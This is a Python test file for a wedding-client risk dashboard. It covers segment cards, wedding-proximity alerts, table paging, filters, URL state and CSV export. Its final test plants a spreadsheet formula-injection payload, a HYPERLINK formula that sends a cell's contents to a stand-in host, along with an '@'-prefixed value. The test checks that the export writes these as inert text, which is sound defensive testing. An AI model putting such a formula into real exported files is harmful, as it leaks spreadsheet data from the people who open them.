"""Risk Segments: segment cards, proximity alerts, the table's rows and pages, the controls and the URL.

Tiny hand-made books; every expected value is worked out by hand beside the test."""

from __future__ import annotations

import datetime as dt
import io
from zoneinfo import ZoneInfo

import numpy as np
import pandas as pd
import pytest

from dashboard.ids import Tab
from dashboard.tabs.risk_segments import view_model as segments_view
from dashboard.tabs.risk_segments.callbacks import control_values, state_from_controls
from dashboard.tabs.risk_segments.layout import ANY_ACTIVITY, column_defs, filters_text
from dashboard.view_state import ViewState
from scoring.enums import RiskLevel

LONDON = ZoneInfo("Europe/London")


D = dt.date(2026, 3, 10)


def test_segment_cards_count_and_share_each_level():
    cards = segments_view.segment_cards({"low": 3, "medium": 1, "critical": 1})
    assert [(c.level, c.clients, c.share_text) for c in cards] == [
        (RiskLevel.LOW, 3, "60% of clients"),
        (RiskLevel.MEDIUM, 1, "20% of clients"),
        (RiskLevel.HIGH, 0, "0% of clients"),
        (RiskLevel.CRITICAL, 1, "20% of clients"),
    ]
    assert [(c.title, c.band_text, c.action) for c in cards][3] == (
        "Critical risk",
        "0–39",
        "Immediate action",
    )
    assert {c.share_text for c in segments_view.segment_cards({})} == {"no clients"}


@pytest.mark.parametrize(
    ("days_to_wedding", "level", "expected"),
    [
        (30, "high", 30),
        (31, "high", None),
        (0, "critical", 0),
        (-1, "critical", None),
        (5, "medium", None),
        (5, "low", None),
    ],
)
def test_proximity_alert_is_for_weddings_within_30_days_at_high_or_critical_risk(
    days_to_wedding, level, expected
):
    wedding = pd.Timestamp(D + dt.timedelta(days=days_to_wedding))
    assert segments_view.proximity_days(wedding, level, D) == expected


def test_no_proximity_alert_without_a_wedding_date():
    assert segments_view.proximity_days(None, "critical", D) is None
    assert segments_view.proximity_days(pd.NaT, "critical", D) is None


def test_grid_rows_are_ready_to_show():
    page = pd.DataFrame(
        {
            "client_id": ["c1", "c2"],
            "client_name": ["Priya Shah", "Tom Hart"],
            "partner_names": ["Priya & Arjun", None],
            "venue": ["Babington House", "Kew Gardens"],
            "wedding_date": pd.to_datetime([D + dt.timedelta(days=12), None]),
            "overall": [16.2, 84.5],
            "score": pd.array([16, 85], dtype="Int64"),
            "risk_level": ["critical", "low"],
            "trend": ["declining", "stable"],
            "primary_factor": ["recency", None],
            "interactions_7d": [0.0, 3.0],
            "open_interventions": pd.array([1, 0], dtype="Int64"),
            "days_since_activity": [26.0, np.nan],
            # 14:00 UTC on 31 Oct is 14:00 in London (GMT from 25 Oct 2026).
            "last_interaction": pd.to_datetime(["2026-10-31 14:00", None], utc=True),
        }
    )
    now = pd.Timestamp("2026-11-26 12:00", tz="UTC")
    first, second = segments_view.grid_rows(page, day=D, zone=LONDON, now=now)
    assert first == {
        "client_id": "c1",
        "name": "Priya Shah",
        "details": "Priya & Arjun · Babington House",
        "score": 16,
        "trend": "declining",
        "trend_label": "Declining",
        "risk_level": "critical",
        "risk_label": "Critical",
        "primary_factor": "Recency",
        "wedding": "22 Mar 2026",
        "wedding_alert": True,
        "wedding_note": "in 12 days",
        "interactions_7d": 0,
        "open_interventions": 1,
        "last_activity": "26 days ago",
        "last_interaction": "31 Oct 14:00",
    }
    assert (second["details"], second["wedding"], second["wedding_alert"]) == (
        "Kew Gardens",
        "",
        False,
    )
    assert (second["last_activity"], second["last_interaction"]) == ("never", "none")


def test_client_page_summary():
    page = segments_view.ClientPage(D, [], total=1234, page=3, pages=124, page_size=10)
    assert page.summary == "Clients 21–30 of 1,234"
    assert segments_view.ClientPage(D, [], 0, 1, 1, 10).summary == "No clients match"
    assert segments_view.ClientPage(None, [], 0, 1, 1, 10).summary.startswith(
        "No health scores yet"
    )


def test_column_defs_hide_the_last_interaction_time_on_the_projector():
    normal = {c["field"]: c for c in column_defs(False)}
    shown = {c["field"]: c for c in column_defs(True)}
    assert not normal["last_interaction"].get("hide")
    assert shown["last_interaction"]["hide"] is True
    assert shown["risk_label"]["width"] > normal["risk_label"]["width"]


def _controls(**changes):
    values = {
        "search": "",
        "risk": [],
        "wedding_from": None,
        "wedding_to": None,
        "activity": ANY_ACTIVITY,
        "sort": "score:asc",
        "page": 1,
    }
    values.update(changes)
    return values


def test_a_segment_card_shows_its_level_and_a_second_click_shows_all():
    state = ViewState(tab=Tab.RISK_SEGMENTS, page=4)
    card = {"type": "rs-segment-card", "level": "high"}
    high = state_from_controls(state, card, **_controls())
    assert (high.risk, high.page) == ((RiskLevel.HIGH,), 1)
    assert state_from_controls(high, card, **_controls()).risk == ()


def test_filters_go_back_to_page_one_but_paging_does_not():
    state = ViewState(tab=Tab.RISK_SEGMENTS, page=4)
    searched = state_from_controls(state, "rs-search", **_controls(search="  Kew "))
    assert (searched.search, searched.page) == ("Kew", 1)
    sorted_ = state_from_controls(state, "rs-sort", **_controls(sort="wedding_date:desc"))
    assert (sorted_.sort, sorted_.order, sorted_.page) == ("wedding_date", "desc", 1)
    dated = state_from_controls(
        state,
        "rs-wedding",
        **_controls(wedding_from="2027-01-31T00:00:00", wedding_to="2027-01-01"),
    )
    assert (dated.wedding_from, dated.wedding_to) == (dt.date(2027, 1, 1), dt.date(2027, 1, 31))
    paged = state_from_controls(state, "rs-pager", **_controls(page=7))
    assert paged.page == 7


def test_clear_filters_keeps_sort_and_client():
    state = ViewState.from_search(
        "?tab=risk-segments&risk=low&q=x&activity=idle&sort=wedding_date&order=asc&client=c9"
    )
    cleared = state_from_controls(state, "rs-clear", **_controls())
    assert cleared == ViewState(
        tab=Tab.RISK_SEGMENTS, sort="wedding_date", order="asc", client="c9"
    )
    assert not cleared.has_filters


def test_control_values_of_a_state():
    state = ViewState.from_search(
        "?risk=critical,low&wedding_to=2027-02-01&sort=score&order=desc&page=2"
    )
    assert control_values(state) == {
        "search": "",
        "risk": ["low", "critical"],
        "wedding_from": None,
        "wedding_to": "2027-02-01",
        "activity": ANY_ACTIVITY,
        "sort": "score:desc",
        "page": 2,
    }


def test_filters_in_words_for_the_table_header():
    assert filters_text(ViewState()) == "lowest score first"
    state = ViewState.from_search(
        "?risk=critical,high&q=kew&wedding_from=2026-12-01&wedding_to=2026-12-31"
        "&activity=dormant&sort=wedding_date&order=asc"
    )
    assert filters_text(state) == (
        "High and Critical risk · “kew” · wedding 1 Dec 2026 – 31 Dec 2026"
        " · dormant (over 30 days) · soonest wedding first"
    )
    assert filters_text(ViewState(wedding_to=dt.date(2027, 1, 5))) == (
        "wedding until 5 Jan 2027 · lowest score first"
    )


def test_client_page_pages_on_the_server(session, make_client, make_score):
    for i in range(25):
        make_client(f"c{i:02d}", name=f"Client {i:02d}", venue="Kew Gardens" if i == 7 else "Hall")
        make_score(f"c{i:02d}", D, float(i * 4))
    now = pd.Timestamp("2026-03-10 12:00", tz="UTC")

    first = segments_view.client_page(session, ViewState(), zone=LONDON, now=now, page_size=10)
    assert (first.total, first.pages, len(first.rows)) == (25, 3, 10)
    assert [row["score"] for row in first.rows] == [i * 4 for i in range(10)]

    # A page past the end shows the last one.
    last = segments_view.client_page(session, ViewState(page=9), zone=LONDON, now=now, page_size=10)
    assert (last.page, [row["client_id"] for row in last.rows]) == (
        3,
        [f"c{i}" for i in range(20, 25)],
    )

    kew = segments_view.client_page(session, ViewState(search="kew"), zone=LONDON, now=now)
    assert [row["name"] for row in kew.rows] == ["Client 07"]
    critical = segments_view.client_page(
        session, ViewState(risk=(RiskLevel.CRITICAL,)), zone=LONDON, now=now, page_size=100
    )
    assert critical.total == 10  # scores 0, 4, ... 36
    assert segments_view.segment_counts(session) == {
        "low": 5,
        "medium": 5,
        "high": 5,
        "critical": 10,
    }


def test_a_huge_page_in_the_url_is_capped():
    from dashboard.view_state import MAX_PAGE

    assert ViewState.from_search("?tab=risk-segments&page=99999999999999999999").page == MAX_PAGE


# -- the CSV export


def test_the_export_has_every_filtered_client_in_the_tables_order(session, make_client, make_score):
    day = dt.date(2026, 3, 10)
    for i, (score, venue) in enumerate(
        [(35.0, "Kew"), (55.0, "Kew"), (45.0, "York"), (90.0, "Kew")]
    ):
        make_client(
            f"c-{i}", name=f"Client {i}", venue=venue, wedding_date=day + dt.timedelta(days=30)
        )
        make_score(f"c-{i}", day, score)
    state = ViewState(risk=(RiskLevel.HIGH, RiskLevel.CRITICAL), search="Kew", page=3)
    filename, content = segments_view.segment_export(session, state)
    frame = pd.read_csv(io.BytesIO(content))

    assert filename == "risk-segments-2026-03-10.csv"
    # High or critical, at Kew, lowest score first; every page, whatever page the screen shows.
    assert frame["client"].tolist() == ["Client 0", "Client 1"]
    assert frame["score"].tolist() == [35, 55]
    assert frame["risk_level"].tolist() == ["critical", "high"]
    assert frame["wedding_date"].tolist() == ["2026-04-09", "2026-04-09"]
    assert list(frame.columns) == list(segments_view.EXPORT_COLUMNS.values())


def test_no_export_before_the_first_scoring_run(session):
    assert segments_view.segment_export(session, ViewState()) is None


def test_the_export_writes_a_formula_in_a_name_as_text(session, make_client, make_score):
    link = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'
    day = dt.date(2026, 3, 10)
    make_client("c-1", name=link, venue="@Kew")
    # A clock set wrong on the importing machine: activity "in the future".
    make_score("c-1", day, 35.0, days_since_activity=-5.0)

    _, content = segments_view.segment_export(session, ViewState())
    lines = content.decode("utf-8").splitlines()
    frame = pd.read_csv(io.BytesIO(content), keep_default_na=False)

    assert frame["client"].tolist() == ["'" + link]
    assert frame["venue"].tolist() == ["'@Kew"]
    # Numbers stay numbers: written bare, read back as numbers.
    assert frame["days_since_activity"].tolist() == [-5]
    assert frame["score"].tolist() == [35]
    assert ",35," in lines[1] and ",-5," in lines[1]
